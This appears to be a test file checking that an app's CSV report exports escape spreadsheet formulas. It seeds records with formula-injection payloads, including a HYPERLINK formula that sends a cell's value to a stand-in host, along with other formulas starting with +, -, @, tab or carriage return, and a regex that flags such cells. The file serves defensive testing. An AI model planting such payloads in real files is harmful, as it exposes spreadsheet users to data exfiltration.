/**
 * Every CSV the app writes keeps spreadsheet formulas inert (app/utils/csv.server.ts): the pilot
 * cohort's groups, tools, theme and questionnaire carry texts that a spreadsheet would run
 * (=HYPERLINK, +, -, @, a tab, a carriage return), and each table of the report's CSV export is
 * parsed back: those cells start with an apostrophe, numbers (a negative one too) stay numbers,
 * and a text with a line break stays one cell.
 */
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { REPORT_TABLES } from "../../core/models/report";
import { documentSchema } from "../../core/store/schema";
import { demoDocument } from "../../server/seeds/demo";
import { PILOT_PROGRAM_ID } from "../../server/seeds/pilot";
import { parseCsv } from "../helpers/csv";
import { signedIn } from "../helpers/http";
import { makeTempDir, removeDir, startServer, type TestServer } from "../helpers/server";

const CSV = `/programs/${PILOT_PROGRAM_ID}/report.csv`;

/** Texts a spreadsheet would take for formulas, and where the test puts them. */
const FORMULAS = {
  groupLabel: '=HYPERLINK("http://exemple.org/?"&A2,"Cliquez")',
  otherGroupLabel: "-1+2",
  toolTitle: "+SUM(1;2)",
  toolDescription: "@SUM(A1:A2)",
  themeLabel: "\t=1+1",
  questionnaireTitle: "\r=2+2",
  interviewLearning: "=4+4 en entretien",
};
const MULTILINE = "Première ligne\n=3+3 en seconde ligne";
/** Where each table must show an escaped formula. */
const EXPECTED: Record<(typeof REPORT_TABLES)[number], string[]> = {
  groups: [FORMULAS.groupLabel, FORMULAS.otherGroupLabel],
  meetings: [FORMULAS.groupLabel, FORMULAS.otherGroupLabel],
  hours: [FORMULAS.groupLabel, FORMULAS.otherGroupLabel],
  // Figures only: nothing typed by a person reaches this table.
  budget: [],
  tools: [FORMULAS.toolTitle, FORMULAS.toolDescription, FORMULAS.themeLabel],
  evaluations: [FORMULAS.questionnaireTitle],
  interviews: [FORMULAS.interviewLearning],
};

let server: TestServer;
let dataDir: string;

beforeAll(async () => {
  dataDir = await makeTempDir("maillage-csv-");
  const doc = documentSchema.parse(await demoDocument());
  const program = doc.programs.find((p) => p.id === PILOT_PROGRAM_ID)!;
  // Logistique used 20 hours: with a bank of 16 it is 4 hours over, a negative number.
  program.hourBankHours = 16;
  const [logistique, synergies] = doc.groups.filter((g) => g.programId === PILOT_PROGRAM_ID);
  logistique!.label = FORMULAS.groupLabel;
  synergies!.label = FORMULAS.otherGroupLabel;
  const [first, second] = doc.tools.filter((t) => t.programId === PILOT_PROGRAM_ID);
  first!.title = FORMULAS.toolTitle;
  first!.description = FORMULAS.toolDescription;
  program.taxonomy.find((tag) => tag.id === first!.theme)!.label = FORMULAS.themeLabel;
  second!.description = MULTILINE;
  doc.evaluations.find((e) => e.programId === PILOT_PROGRAM_ID && e.kind === "monthly")!.title =
    FORMULAS.questionnaireTitle;
  // The pilot's interviews are validated (one per participant): one's learning is the formula.
  doc.interviews.find((i) => i.programId === PILOT_PROGRAM_ID)!.notes!.learning =
    FORMULAS.interviewLearning;
  await writeFile(join(dataDir, "maillage.json"), JSON.stringify(documentSchema.parse(doc)));
  server = await startServer({ dataDir });
});
afterAll(async () => {
  await server?.stop();
  await removeDir(dataDir);
});

/** What a spreadsheet would run: a text starting with =, +, -, @, a tab or a carriage return. */
const live = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);
const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

describe("CSV exports", () => {
  it("the CSV parser of this test reads quotes, commas and line breaks", () => {
    expect(parseCsv('a,"b,""c""",d\r\n"x\r\ny",,-3\r\n')).toEqual([
      ["a", 'b,"c"', "d"],
      ["x\r\ny", "", "-3"],
    ]);
    expect(() => parseCsv("a\nb,c\r\n")).toThrow("line break outside quotes");
  });

  it("turns every formula-like text into inert text in each table of the report, numbers kept", async () => {
    const coordinator = await signedIn(server.url, "coordination@exemple.org");
    for (const table of REPORT_TABLES) {
      const response = await coordinator.get(`${CSV}?table=${table}`);
      expect(response.status, table).toBe(200);
      expect(response.headers.get("content-type"), table).toBe("text/csv; charset=utf-8");
      const bytes = new Uint8Array(await response.arrayBuffer());
      expect([...bytes.slice(0, 3)], table).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
      const records = parseCsv(text);
      const width = records[0]!.length;
      for (const record of records) expect(record, table).toHaveLength(width);
      const cells = records.flat();

      // No cell runs: a number is a number, anything else that looked live got its apostrophe.
      expect(
        cells.filter((cell) => live(cell) && !isNumber(cell)),
        table,
      ).toEqual([]);
      for (const formula of EXPECTED[table]) expect(cells, table).toContain(`'${formula}`);

      if (table === "hours") {
        const logistique = records.find((r) => r[0] === `'${FORMULAS.groupLabel}`)!;
        // bank, used, remaining: -4 left as a number (no apostrophe, no quotes).
        expect(logistique.slice(1, 4), table).toEqual(["16", "20", "-4"]);
        expect(text, table).toContain(",16,20,-4,");
      }
      if (table === "tools") expect(cells, table).toContain(MULTILINE);
    }
  });
});
